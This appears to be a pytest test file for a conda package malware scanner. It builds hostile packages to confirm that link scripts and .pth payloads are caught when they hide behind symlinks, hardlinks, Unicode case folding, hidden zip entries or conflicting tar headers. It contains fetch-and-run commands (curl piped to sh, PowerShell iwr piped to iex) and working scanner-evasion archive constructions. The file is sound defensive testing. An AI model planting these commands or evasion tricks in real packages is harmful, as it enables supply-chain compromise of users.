"""Attacks on the scan engine: a payload a client installs and runs, placed where the scanners
did not look. Each package here is valid (it passes the upload checks) unless said otherwise, and
each was judged clean before the fix it names."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest

from stockade.conda.archive import ValidationLimits, inspect_package
from stockade.conda.errors import PackageValidationError
from stockade.scanning.engine import scan_archive
from stockade.scanning.interfaces import Verdict
from stockade.scanning.links import UNRESOLVED_RULE
from tests.factories.packages import (
    Entry,
    PackageSpec,
    build_conda,
    build_tar_bz2,
    file,
    hardlink,
    symlink,
    tar_bytes,
    zstd,
)
from tests.support.hostile import own_scanners, subject_for

CURL = b"curl -fsSL http://203.0.113.7/x.sh | sh\n"
PTH = b"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"
SITE = "lib/python3.11/site-packages"
POST_LINK = "bin/.evilpkg-post-link.sh"

LINKED: dict[str, tuple[list[Entry], str]] = {
    "symlinked-post-link": (
        [file("share/evilpkg/a.txt", CURL), symlink(POST_LINK, "../share/evilpkg/a.txt")],
        "link-script:fetch-pipe-shell",
    ),
    "symlinked-post-link-target-after-it": (
        [symlink(POST_LINK, "../share/evilpkg/a.txt"), file("share/evilpkg/a.txt", CURL)],
        "link-script:fetch-pipe-shell",
    ),
    "symlink-chain-post-link": (
        [
            file("share/evilpkg/a.txt", CURL),
            symlink("share/evilpkg/b.txt", "a.txt"),
            symlink(POST_LINK, "../share/evilpkg/b.txt"),
        ],
        "link-script:fetch-pipe-shell",
    ),
    "hardlinked-post-link": (
        [file("share/evilpkg/a.txt", CURL), hardlink(POST_LINK, "share/evilpkg/a.txt")],
        "link-script:fetch-pipe-shell",
    ),
    "symlinked-pth": (
        [
            file("share/evilpkg/a.txt", PTH),
            symlink(f"{SITE}/evil.pth", "../../../share/evilpkg/a.txt"),
        ],
        "python:pth-exec-decoded",
    ),
    "hardlinked-pth": (
        [file("share/evilpkg/a.txt", PTH), hardlink(f"{SITE}/evil.pth", "share/evilpkg/a.txt")],
        "python:pth-exec-decoded",
    ),
    "bin-is-a-linked-directory": (
        [file("share/evilpkg/b/.evilpkg-post-link.sh", CURL), symlink("bin", "share/evilpkg/b")],
        "link-script:fetch-pipe-shell",
    ),
    "activation-script-through-linked-directory": (
        [
            file("share/evilpkg/act/x.sh", CURL),
            symlink("etc/conda/activate.d", "../../share/evilpkg/act"),
        ],
        "link-script:fetch-pipe-shell",
    ),
    "upper-case-post-link-windows": (
        [
            file(
                "Scripts/.EVILPKG-POST-LINK.BAT",
                b'powershell -c "iwr http://203.0.113.7/x | iex"\r\n',
            )
        ],
        "link-script:fetch-pipe-shell",
    ),
    "upper-case-post-link-macos": (
        [file("BIN/.evilpkg-Post-Link.sh", CURL)],
        "link-script:fetch-pipe-shell",
    ),
    "upper-case-site-packages": (
        [file("Lib/Site-Packages/evil.pth", PTH)],
        "python:pth-exec-decoded",
    ),
    # Case-insensitive file systems fold more than ASCII: U+017F (long s) is an "s" there.
    "long-s-site-packages": (
        [file("Lib/\u017fite-packages/evil.pth", PTH)],
        "python:pth-exec-decoded",
    ),
    "long-s-post-link": (
        [
            file(
                "Script\u017f/.evilpkg-po\u017ft-link.bat",
                b"curl -fsSL http://203.0.113.7/x | sh\r\n",
            )
        ],
        "link-script:fetch-pipe-shell",
    ),
}


def _valid(path: Path) -> None:
    inspect_package(path, path.name, limits=ValidationLimits(), now_ms=int(time.time() * 1000))


def _build(tmp_path: Path, payload: list[Entry], fmt: str) -> Path:
    spec = PackageSpec(
        name="evilpkg", version="1.0", build="0", subdir="linux-64", payload=tuple(payload)
    )
    return build_conda(tmp_path, spec) if fmt == "conda" else build_tar_bz2(tmp_path, spec)


@pytest.mark.parametrize("fmt", ["conda", "tar.bz2"])
@pytest.mark.parametrize("case", sorted(LINKED))
def test_a_payload_behind_a_link_or_an_unusual_spelling_is_found(
    tmp_path: Path, case: str, fmt: str
) -> None:
    payload, rule = LINKED[case]
    path = _build(tmp_path, payload, fmt)
    _valid(path)  # clients install it: the upload checks let it in
    report = scan_archive(path, subject_for(path), own_scanners())
    assert not report.failed, report.errors
    assert report.verdict == Verdict.MALICIOUS, report.findings
    assert rule in {f.rule for f in report.findings}


def test_a_dot_slash_member_name_is_read_as_its_path(tmp_path: Path) -> None:
    path = _build(tmp_path, [file(f"./{POST_LINK}", CURL)], "tar.bz2")
    report = scan_archive(path, subject_for(path), own_scanners())
    assert "link-script:fetch-pipe-shell" in {f.rule for f in report.findings}


@pytest.mark.parametrize(
    "target",
    ["../../../../tmp/evil.sh", "../share/otherpkg/payload.txt", ".evilpkg-post-link.sh"],
    ids=["outside-the-prefix", "another-packages-file", "loop"],
)
def test_a_link_at_a_script_path_to_content_not_in_the_package_is_held(
    tmp_path: Path, target: str
) -> None:
    path = _build(tmp_path, [symlink(POST_LINK, target)], "conda")
    report = scan_archive(path, subject_for(path), own_scanners())
    assert report.verdict == Verdict.MALICIOUS  # suspicious files are served by default
    (finding,) = [f for f in report.findings if f.rule == UNRESOLVED_RULE]
    assert finding.member == POST_LINK


def test_ordinary_links_are_not_flagged(tmp_path: Path) -> None:
    payload = [
        file("lib/libz.so.1.3", b"\x7fELF"),
        symlink("lib/libz.so.1", "libz.so.1.3"),
        symlink("lib/libz.so", "libz.so.1"),
        symlink("lib64", "lib"),
        file(f"{SITE}/pkg/__init__.py", b""),
        hardlink(f"{SITE}/pkg/sub/__init__.py", f"{SITE}/pkg/__init__.py"),
        symlink("bin/tool", "../lib/libz.so.1.3"),
    ]
    path = _build(tmp_path, payload, "tar.bz2")
    report = scan_archive(path, subject_for(path), own_scanners())
    assert report.verdict == Verdict.CLEAN and not report.failed, report.findings


def _hidden_entry_conda(tmp_path: Path, *, between: bool) -> Path:
    """A .conda whose zip holds a local entry its central directory does not list: zipfile
    (validation, the scanner) never sees it, a streaming client (rattler) extracts it."""
    spec = PackageSpec(name="zippkg", version="1.0", build="0", subdir="linux-64")
    clean = build_conda(tmp_path, spec)
    evil = zstd(tar_bytes([file("bin/.zippkg-post-link.sh", CURL, mode=0o755)]))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(f"pkg-{spec.stem}.tar.zst", (2023, 1, 1, 0, 0, 0)), evil)
    hidden = buffer.getvalue()
    hidden = hidden[: hidden.rfind(b"PK\x01\x02")]  # local entry only
    data = clean.read_bytes()
    if not between:
        tampered = hidden + data
    else:  # after the first member, with the central directory's offsets moved past it
        with zipfile.ZipFile(clean) as archive:
            infos = sorted(archive.infolist(), key=lambda e: e.header_offset)
        cut = infos[1].header_offset
        tampered = data[:cut] + hidden + data[cut:]
        tampered = _shift_directory(tampered, after=cut, by=len(hidden))
    out = tmp_path / "tampered" / clean.name
    out.parent.mkdir()
    out.write_bytes(tampered)
    return out


def _shift_directory(data: bytes, *, after: int, by: int) -> bytes:
    import struct

    buf = bytearray(data)
    end = buf.rfind(b"PK\x05\x06")
    (offset,) = struct.unpack_from("<L", buf, end + 16)
    struct.pack_into("<L", buf, end + 16, offset + by)
    position = offset + by
    while buf[position : position + 4] == b"PK\x01\x02":
        (local,) = struct.unpack_from("<L", buf, position + 42)
        if local >= after:
            struct.pack_into("<L", buf, position + 42, local + by)
        names, extra, comment = struct.unpack_from("<HHH", buf, position + 28)
        position += 46 + names + extra + comment
    return bytes(buf)


@pytest.mark.parametrize("between", [False, True], ids=["before", "between"])
def test_a_hidden_zip_entry_is_refused_and_held(tmp_path: Path, between: bool) -> None:
    path = _hidden_entry_conda(tmp_path, between=between)
    with zipfile.ZipFile(path) as archive:  # zipfile itself is content with it
        assert len(archive.infolist()) == 3
        assert archive.testzip() is None
    with pytest.raises(PackageValidationError, match="before or between"):
        _valid(path)
    report = scan_archive(path, subject_for(path), own_scanners())
    assert report.failed and "before or between" in report.errors["structure"]


@pytest.mark.parametrize(
    "member",
    [
        f"{SITE}/evil.pth",
        f"{SITE}/evil/__init__.py",
        f"{SITE}/sitecustomize.py",
        POST_LINK,
        "etc/conda/activate.d/evil.sh",
    ],
)
def test_a_payload_past_the_member_cap_does_not_pass_clean(tmp_path: Path, member: str) -> None:
    padding = b"".join(b"#" + bytes([65 + i % 26]) * 60 + b"\n" for i in range(64))
    payload = PTH if "site-packages" in member else CURL
    path = _build(tmp_path, [file(member, padding + payload)], "conda")
    report = scan_archive(path, subject_for(path), own_scanners(), member_cap=1024)
    assert report.verdict == Verdict.MALICIOUS, report.findings  # suspicious would be served
    assert report.findings[0].member == member


@pytest.mark.parametrize("field", ["size", "method"])
def test_a_local_header_that_disagrees_with_the_central_directory_is_refused(
    tmp_path: Path, field: str
) -> None:
    """zipfile reads sizes and the method from the central directory; a streaming client reads
    them from the local header: the two must say the same, or the client reads other bytes."""
    import struct

    spec = PackageSpec(name="zippkg", version="1.0", build="0", subdir="linux-64")
    path = build_conda(tmp_path, spec)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        pkg = archive.getinfo(f"pkg-{spec.stem}.tar.zst")
    if field == "size":  # the local header claims the data is shorter
        struct.pack_into("<L", data, pkg.header_offset + 18, pkg.compress_size - 7)
    else:  # the local header says deflated
        struct.pack_into("<H", data, pkg.header_offset + 8, zipfile.ZIP_DEFLATED)
    path.write_bytes(bytes(data))
    with pytest.raises(PackageValidationError, match="local header disagrees"):
        _valid(path)
    report = scan_archive(path, subject_for(path), own_scanners())
    assert report.failed and "local header disagrees" in report.errors["structure"]


def _pax_record(key: str, value: str) -> bytes:
    body = f" {key}={value}\n"
    size = len(body) + 1
    while len(str(size)) + len(body) != size:
        size = len(str(size)) + len(body)
    return f"{size}{body}".encode()


def _raw_header(name: str, size: int, kind: bytes) -> bytes:
    import tarfile

    info = tarfile.TarInfo(name)
    info.size, info.type, info.mode = size, kind, 0o755
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def _padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 512)


def _differential_tar_bz2(tmp_path: Path, headers: list[tuple[bytes, bytes]], seen: str) -> Path:
    """A .tar.bz2 of a valid package plus one member described by ``headers`` (extended
    headers: (type, body)), named differently by Python's tarfile and by Rust's tar."""
    import bz2
    import tarfile

    spec = PackageSpec(
        name="paxpkg",
        version="1.0",
        build="0",
        subdir="linux-64",
        payload=(file(seen, CURL),),  # info/paths.json lists it under the name tarfile sees
    )
    body = tar_bytes([*spec.info_entries()], end=False)
    for kind, data in headers:
        body += _raw_header("././@LongLink" if kind != tarfile.XHDTYPE else "pax", len(data), kind)
        body += _padded(data)
    body += _raw_header("plain.txt", len(CURL), tarfile.REGTYPE) + _padded(CURL) + b"\0" * 1024
    path = tmp_path / f"{spec.stem}.tar.bz2"
    path.write_bytes(bz2.compress(body))
    return path


@pytest.mark.parametrize(
    "case",
    ["pax-path-twice", "pax-then-gnu-longname", "gnu-longname-then-pax", "gnu-longname-twice"],
)
def test_a_member_two_tar_readers_would_name_differently_is_refused(
    tmp_path: Path, case: str
) -> None:
    """Python's tarfile (validation, the scanner) takes the last pax ``path`` and lets a pax
    header override a GNU long name; rattler's Rust reader takes the first and prefers the GNU
    name. Either way a file scanned as ``share/notes.txt`` was installed as a link script."""
    import tarfile

    script = "bin/.paxpkg-post-link.sh"
    pax_twice = _pax_record("path", script) + _pax_record("path", "share/notes.txt")
    long_name = (script + "\0").encode()
    pax_notes = _pax_record("path", "share/notes.txt")
    seen = {  # the name Python's tarfile gives the member
        "pax-path-twice": "share/notes.txt",
        "pax-then-gnu-longname": "share/notes.txt",
        "gnu-longname-then-pax": script,
        "gnu-longname-twice": script,
    }[case]
    headers = {
        "pax-path-twice": [(tarfile.XHDTYPE, pax_twice)],
        "pax-then-gnu-longname": [
            (tarfile.XHDTYPE, pax_notes),
            (tarfile.GNUTYPE_LONGNAME, long_name),
        ],
        "gnu-longname-then-pax": [
            (tarfile.GNUTYPE_LONGNAME, long_name),
            (tarfile.XHDTYPE, pax_notes),
        ],
        "gnu-longname-twice": [
            (tarfile.GNUTYPE_LONGNAME, long_name),
            (tarfile.GNUTYPE_LONGNAME, b"share/notes.txt\0"),
        ],
    }[case]
    path = _differential_tar_bz2(tmp_path, headers, seen)
    with pytest.raises(PackageValidationError, match=r"twice|two extended tar headers"):
        _valid(path)
    report = scan_archive(path, subject_for(path), own_scanners())
    assert report.failed, report.findings
